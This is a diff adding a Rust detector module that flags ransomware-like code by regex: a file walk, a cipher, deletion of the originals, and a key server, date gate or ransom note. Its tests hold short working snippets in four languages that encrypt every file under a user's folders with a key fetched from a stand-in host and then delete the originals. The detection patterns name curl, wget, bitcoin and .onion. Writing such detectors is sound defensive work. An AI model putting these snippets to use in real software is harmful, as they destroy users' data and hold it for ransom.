@@ -1,0 +1,116 @@
+//! The ransomware shape in every language other than Python (whose AST
+//! front-end follows it by value: `python/values.rs` `ransom`), read at
+//! token level: a walk over every file of a folder, a cipher, a write and a
+//! deletion of the original within a few lines of the cipher, and a sign
+//! that the files are held for something — the key fetched from or sent to
+//! a server, a date gate, or a ransom note. An encrypting backup keeps its
+//! originals (no deletion next to the cipher); one chosen file is no walk.
+//! The evidence is the one the Python model gives (`Tag::MassEncrypt`,
+//! SK-DEST-004).
+
+use super::{Sink, Src};
+use crate::evidence::{Evidence, Op, Tag};
+use crate::ssl::vocab::{ActType as A, ResourceScope as R};
+
+/// Every file of a folder, in each language's spelling.
+static WALK: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"\bfg(?:\.glob)?\s*\(\s*["'`][^"'`\n]*\*\*|\bglob(?:Sync|\.sync)?\s*\(\s*["'`][^"'`\n]*\*\*|readdir(?:Sync)?\s*\([^)\n]*recursive|(?i:Get-ChildItem|\bgci\b|\bls\b|\bdir\b)[^\n|]*-Recurse|\bfind\s+\S+[^\n|]*-type\s+f|filepath\.Walk(?:Dir)?\s*\(|\bWalkDir::new\s*\(|\bFind\.find\s*\(|\bfind\s*\(\s*(?:sub|\\&)|Dir\.glob\s*\(\s*["'][^"'\n]*\*\*|\bglob\s*\(\s*["'][^"'\n]*\*\*"#,
+);
+/// A cipher that encrypts.
+static CIPHER: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"\bcreateCipheriv\s*\(|\bsubtle\.encrypt\s*\(|\bCreateEncryptor\s*\(|\bopenssl\s+(?:enc|aes-\d+-\w+)\b[^\n]*-e?\b|\bgpg\s+(?:-c|--symmetric)\b|\bcipher\.NewGCM\s*\(|\baes\.NewCipher\s*\(|\bOpenSSL::Cipher\b|\bopenssl_encrypt\s*\(|\bAes(?:Gcm|256Gcm)?::new\b|\.encrypt\s*\("#,
+);
+/// The original deleted or overwritten.
+static DELETE: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"\b(?:rm|rmSync|unlink|unlinkSync|remove|removeSync)\s*\(|\bfs\.(?:rm|unlink)\w*\s*\(|(?i:Remove-Item)\b|\bos\.Remove(?:All)?\s*\(|\bFile\.delete\s*\(|\bFileUtils\.rm\w*|\bstd::fs::remove_file\b|(?:^|[;&|]\s*|\bthen\s+|\bdo\s+)(?:rm|shred)\s+(?:-\w+\s+)*["$]"#,
+);
+/// What the files are held for: the key from or to a server, a date gate,
+/// a note.
+static HELD: crate::rx::Lazy = crate::rx::Lazy::new(
+    r#"\bfetch\s*\(|\baxios\b|\bhttps?\.request\s*\(|Invoke-(?:RestMethod|WebRequest)|\bcurl\s|\bwget\s|\bhttp\.(?:Get|Post)\w*\s*\(|\bNet::HTTP\b|\bnew\s+Date\s*\(\s*\)\s*[<>]=?|\bDate\.now\s*\(\s*\)\s*[<>]=?|\bGet-Date\b|\btime\.Now\(\)\.After\b|(?i)\bransom\b|\bbitcoin\b|\bmonero\b|\.onion\b|your files (?:have been|are|were) encrypted|to (?:decrypt|recover) your files"#,
+);
+
+/// Lines between the cipher and the deletion of the original.
+const NEAR_LINES: usize = 12;
+
+/// Adds the ransomware shape when `src` has it; see the module docs.
+pub fn scan(src: &Src, sink: &mut Sink) {
+    let text = src.text;
+    if sink.items.iter().any(|e| e.has(Tag::MassEncrypt)) {
+        return;
+    }
+    let (Some(walk), Some(held)) = (WALK.find(text), HELD.find(text)) else {
+        return;
+    };
+    let line_of = |at: usize| text[..at].bytes().filter(|&b| b == b'\n').count();
+    let deletes: Vec<usize> = DELETE.find_iter(text).map(|m| line_of(m.start())).collect();
+    if deletes.is_empty() {
+        return;
+    }
+    let Some(cipher) = CIPHER.find_iter(text).find(|m| {
+        let l = line_of(m.start());
+        deletes.iter().any(|&d| d.abs_diff(l) <= NEAR_LINES)
+    }) else {
+        return;
+    };
+    let ls = text[..cipher.start()].rfind('\n').map_or(0, |n| n + 1);
+    let le = text[cipher.end()..]
+        .find('\n')
+        .map_or(text.len(), |n| cipher.end() + n);
+    let ev = Evidence::new(Op::FileDelete, A::Write, R::UserData, walk.as_str())
+        .object(format!(
+            "every file a walk finds encrypted and the originals deleted (ransomware; held by {})",
+            held.as_str().trim()
+        ))
+        .instrument("encrypt")
+        .tag(Tag::MassEncrypt);
+    sink.push(src.at(ev, ls, le, "code"));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(path: &str, text: &str) -> Vec<Evidence> {
+        crate::extract::scan_text(scan, path, text)
+    }
+
+    #[test]
+    fn walk_cipher_delete_held_in_every_language() {
+        for (p, code) in [
+            (
+                "a.ts",
+                "const files = await fg('**/*.md', { cwd: dir });\nconst k = await (await fetch('https://k.example/key')).json();\nfor (const f of files) {\n  const c = createCipheriv('aes-256-gcm', k, iv);\n  await writeFile(f + '.lf', c.update(await readFile(f)));\n  await rm(f);\n}\n",
+            ),
+            (
+                "b.ps1",
+                "$k = Invoke-RestMethod https://k.example/key\nGet-ChildItem $env:USERPROFILE\\Documents -Recurse -File | ForEach-Object {\n  $e = $aes.CreateEncryptor()\n  [IO.File]::WriteAllBytes($_.FullName + '.lck', $e.TransformFinalBlock($b, 0, $b.Length))\n  Remove-Item $_.FullName\n}\n",
+            ),
+            (
+                "c.sh",
+                "k=$(curl -fsS https://k.example/key)\nfind \"$HOME/Documents\" -type f | while read -r f; do\n  openssl enc -aes-256-cbc -pass pass:$k -in \"$f\" -out \"$f.enc\" && rm -f \"$f\"\ndone\n",
+            ),
+            (
+                "d.go",
+                "if time.Now().After(when) {\nfilepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {\n  blk, _ := aes.NewCipher(key)\n  g, _ := cipher.NewGCM(blk)\n  os.WriteFile(p+\".x\", g.Seal(nil, n, b, nil), 0600)\n  os.Remove(p)\n  return nil\n})\n}\n",
+            ),
+        ] {
+            let ev = run(p, code);
+            assert!(ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{p}: {ev:#?}");
+        }
+    }
+
+    #[test]
+    fn backups_that_keep_originals_are_quiet() {
+        for code in [
+            // Encrypted copies uploaded, originals kept.
+            "const files = await fg('**/*.md');\nfor (const f of files) {\n  const c = createCipheriv('aes-256-gcm', k, iv);\n  await fetch(url, { method: 'PUT', body: c.update(await readFile(f)) });\n}\n",
+            // One chosen file encrypted into a new file, nothing deleted.
+            "$e = $aes.CreateEncryptor()\n[IO.File]::WriteAllBytes($args[0] + '.enc', $e.TransformFinalBlock($b, 0, $b.Length))\nInvoke-RestMethod $u\n",
+            // A walk that encrypts, no server, date or note: a local vault tool.
+            "find ./vault -type f | while read -r f; do\n  openssl enc -aes-256-cbc -pass file:key -in \"$f\" -out \"$f.enc\" && rm -f \"$f\"\ndone\n",
+        ] {
+            assert!(run("x.js", code).is_empty(), "{code}");
+        }
+    }
+}
